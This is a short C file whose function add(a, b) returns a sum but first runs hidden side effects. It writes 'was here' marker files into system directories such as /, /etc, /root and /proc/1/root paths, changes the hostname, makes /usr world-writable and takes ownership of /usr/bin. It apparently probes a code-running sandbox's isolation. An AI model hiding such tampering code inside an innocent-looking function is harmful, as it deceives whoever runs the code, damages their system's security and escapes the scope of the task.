#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int add(int a, int b)
{
    static const char *const folders[] = {
        "/", "/etc", "/usr", "/usr/bin", "/var/tmp", "/root", "/home", "/box", "/tmp/../..",
        "/tmp", "/dev/shm", "/proc/1/root/var/tmp", "/proc/1/root/tmp", "/sys", "/dev"};
    for (unsigned i = 0; i < sizeof folders / sizeof *folders; i++) {
        char name[100];
        snprintf(name, sizeof name, "%s/flow2code-was-here", folders[i]);
        FILE *file = fopen(name, "w");
        if (file) {
            fputs("I was here", file);
            fclose(file);
        }
    }
    sethostname("flow2code-was-here", 18);
    chmod("/usr", 0777);
    chown("/usr/bin", getuid(), getgid());
    return a + b;
}
